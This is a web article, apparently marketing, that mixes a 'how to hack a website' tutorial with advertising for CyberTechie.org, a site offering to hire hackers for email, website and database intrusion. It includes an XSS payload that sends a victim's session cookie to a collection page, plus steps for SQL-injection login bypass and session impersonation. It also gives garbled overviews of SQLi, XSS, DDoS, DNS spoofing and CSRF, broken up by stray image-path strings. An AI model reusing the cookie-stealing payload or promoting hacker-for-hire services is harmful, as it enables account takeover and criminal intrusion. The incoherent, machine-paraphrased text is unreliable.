If you ever need to hire hackers for your hacking needs, visit CyberTechie.Org. The CyberTechie.org website is the safest and most genuine website on the surface web that lets you hire a hacker for all hacking services which cover everything from email hacking to the website and database hacking.

While hacking isn’t essentially a criminal offence, the term will have a significant negative connotation and you know you can hire hackers on the internet, however most if not all of the hackers for hire within any agency would lurk on the dark web as criminals.

How to hack a website.

How to hack a website.

Hackers evoke what? Possibly a computer-savvy hooded thief. That hacker learned website hacking easily. Not all website hacking is criminal!

Banks, retailers, and government agencies hire hackers to test computer security.

Website hacking is your thing. Today we’ll cover how to hack a website and cyberattack types andprevention.

Step-by-Step Website Hacking: Website hacking methods
Website hackers have many methods. He only needs to find the website’s weak point to enter and access vital information. Here are some amazing website hacking tricks.

Website hacking
Online hacking is the first way to change a website. Hacking “www.techpanda.org” will demonstrate web page hacking steps. To get admin information, we’ll read the cookie session ID and impersonate a user.

SQL Injection can bypass authentication and give us login credentials. Next:

Password2020 is the password for admin@xyz.com.
Logging in displays the dashboard below.

Add New Contact.
First name:
<a href=# onclick=\”document.location=\’http://techpanda.org/snatch sess id.php?c=\’+escape\(document.cookie\);\”>

JavaScript adds a hyperlink with an on-click event. The event sends the PHP cookie session ID and the URL to the snatch sess id.php page when clicked.

Session impersonation
This attack requires a tamper data add-on. Firefox users frequently install Tamper Data. You can modify client-server data and GET and POSTING element data. Installing a tamper data add-on is detailed below.

Cyberattack Types
Hackers can enter a company’s cyberspace in several ways. Here are some cyberattacks.

SQL injection
Hackers inject malicious SQL queries into applications in SQL injection attacks. The query allows the hacker to read critical database data and execute unauthorized commands, compromising critical data.

Hackers can spoof identity, alter data, commit fraud, and damage company reputations with this cyberattack. PHP and ASP have old interfaces, making these attacks common. Hacker skill determines injection attack severity. Websites without adequate security can be exploited.

SQL Injection Types
Based ondata access and damage, the attack has three categories. In-band SQLi (Classic), Inferential SQLi (Blind), and Out-of-band SQLi.

In-band SQLi: If the SQL is easy to hack. This SQL injection attack uses the same network channel to attack and steal data. It has two variants.

Error-based SQLi: Attacker-caused database errors. The attacker can learn the database structure for that application from the result.

Union-based SQLi: The UNION SQL operator combines multiple select statements into a single HTTP response with application information.

Inferential (Blind) SQLi: The hacker sends a lot of data to the server to see how it reacts. Thus, the attacker will study its structure. The attacker won’t see the data because it’s not transferred from the website database. This attack slows the server. Blind SQL injections have two types:

Boolean: The attacker sends a SQL query to the database and checks its output for truth. HTTP response data will also change.
Time-based: This query delays database response. The attacker examines the query response time. Time determines the HTTP response. The attacker can guess without accessing the database.

Out-of-band SQLi: This attack requires database server features. The server must be able to send DNS or HTTP requests to the attacker. Attackers use this method if other methods fail.

How Does SQL Injection Work?
The attacker may use the following SQL injection method. Attackers have several options.

Injecting SQL queries in the user input field: The hacker enters SQL queries and sends them to the database. The attacker can do anything if the database accepts input without sanitizing it.
Injecting SQL queries via cookies: The attacker uses malware to modify cookies and inject their query to access the database.
Injecting SQL queries via HTTP headers: If the application accepts header input and accesses the database, the attacker can inject thequery.
SQL Injection
Impersonating another user to access the database without authentication.
Data theft for self-use.
Fraudulently altering vital data.
Data deletion harms reputation.
Rooting and running SQLs.

Preventing This Attack?
Sanitizing inputs prevents this attack by identifying unauthorized users who access critical data.

Hackers steal victim data by impersonating them. XSS attacks compromise user-application interaction. This attack replicates the environment that distinguishes websites. The attacker can damage critical application data if theyhave privileged access.

Accessing the app or website starts the attack. The attacker executes malicious JavaScript code in the victim’s browser. The web page delivers the injected code to the user. Forums, comments, and other web pages can be injected with code.

Cross-Site Scripting Effects
User impacts:

Data theft for self-use.Fraudulently altering vital data.
Data deletion harms reputation.
Preventing Cross-Site Scripting
Avoid this attack by following these steps.

Ensure the application form filters user input.
Securely encode output data.
Use proper response headers.
Implement content-related security.
XSS Types
Three attacks exist.

Reflected XSS Attack
Making this attack is easy. The attacker sends the code in the HTTP request and receives the data immediately.

The web browser executes the injected script when the user clicksapplications HTTP requests and visits the above URL. The script retrieves, deletes, etc.

Stored XSS
This attack involves an application sending untrusted data to the server in HTTP responses.

HTTP requests can inject data. Comments, customer order contact info, etc.


Users can post messages in the app’s comment section.


Data Greetings

The attacker can send a comment that can harm other users.



Client-side JavaScript processing untrusted data and writing it to the DOM causes this attack.

The JavaScript code below reads an input field and passes the value to the HTML element.

Search = document.getElementById(‘search’).value; results.innerHTML=’You searched for:’ + search.

The attacker can execute malicious code by controlling the input field:

3. DDoS/DoS
DDoS attacks flood a server with requests, disrupting its regular traffic. They occur in networks of malware-infected devices controlled remotely by an attacker. Attackers send remote commands to bots. A bot will send a request to the target’s IP address and overwhelm the server, causing severe damage.


DDoS Attack Types
Attackers use these DDoS types.

TCP Connection Attack: This attack takes over your load balancers, firewalls, and application servers, delaying request processing.
Volumetric Attack: Congesting application bandwidth within the target network or between the target network and the Internet.
Fragmentation Attacks: TCP or UDP fragments flood avictim’s streams, reducing performance.
Application Attacks: Overwhelms an application and reduces traffic.
DNS Reflection: The attacker forges the victim’s IP, sends a small DNS request, and sends a long reply to the user.
DDoS Effects
Server and machine effects are below.

Unnecessary IP address traffic increase.
Unexpected traffic spike from users with the same behavioral profile (device type, geolocation, etc.).
Requests to a page or endpoint can increase.
Odd-hour traffic increases.
DDoS Prevention
DDoS preventionmethods are below.

Limit your web server’s router speed.
Filter suspicious packets from your router.
Force connection timeouts.
Use DDoS-resistant firewalls.

Use Akamai, Cloudflare, VeriSign, Arbor Networks, etc. DDoS mitigation software.

DNS Spoofing

DNS poisoning and spoofing exploit DNS server vulnerabilities to redirect traffic to fake servers. The victim will be redirected to a malicious website if he visited a fraudulent page. This attack primarily steals data.

This attack requires a DNS server request for an IP address. They receive a fake IP address with no connection to the client’s requested address. The malicious host returns the legitimate website without a security certificate.DNS Spoofing Types
DNS spoofing types are below.

Router Attack
This attack alters data and adds malicious code to the local device. The victim cannot tell if their system is compromised. However, hostnames will return incorrect IP addresses. Attacks will continue until tampering is fixed. Changes to the DNS server, host file, router, etc.

DNS Response Attack
A man-in-the-middle attack where the attacker poses as a victim and sends a malicious response. DNS traffic uses unencrypted User Datagram Protocol, making this attack possible.

DNS server
DNS spoofing attacks on valid DNS servers affect many users. Poisoning the DNS cache, DNS server hijacking, etc.

DNS Spoofing Prevention
DNS Spoofing attack prevention methods:

Limit recursive queries and prevent poisoning.Store domain-specific data.
Limit responses to the requested domain.
Require HTTPS.

5. CSRF Attack

Cross-Site Request Forgery (CSRF) attacks a web application without authorization andperforms unwanted actions as expected by the attacker. The attacker coerces the victim to commit illegal acts.

If the victim is a regular user, the attacker can only transfer funds, change email addresses, etc. CSRF can affect the entire web application if the victim has administrative access.

Server state, data breach, and illegal fund transfer are the main effects.

CSRF Attacks
When a victim visits a website, the browser automatically logs them in using their saved cookies. After login, the site cannot distinguish between forged and legitimate requests. Attackers can easily impersonate victims. Attackers usually do this:

Social engineering tricks the victim into clicking a malware link.
That link will request the site.
The same user should use saved data to sign into the website.
The website fulfills the attacker’s request.

Cross-Site Request Forgery Prevention

Best practices to prevent this attack:

Always log out of logged-in web apps.
Avoid forgery with strong usernames and passwords.
Avoid using parallel browsers for critical work.


We only listed the most common attacks on a simple website without security. Modern technology aids attackers. They just need network communication. Security policies vary by organization and website. However, hackers can damage your system.

Toprotect your website, you must understand how it can be hacked and how to prevent it. Read this article to identify and eliminate website threats.

How to hack a website.
For anyonesearching for where or how to hirea hacker for hacking services, CyberTechie.Org has established itself as a reliable and top marketplace for that.  CyberTechie consists of experienced professionals with years of multi-source intelligence and skill set available to provide you with qualityhacking services.

Leave a commentYour email address will not be published.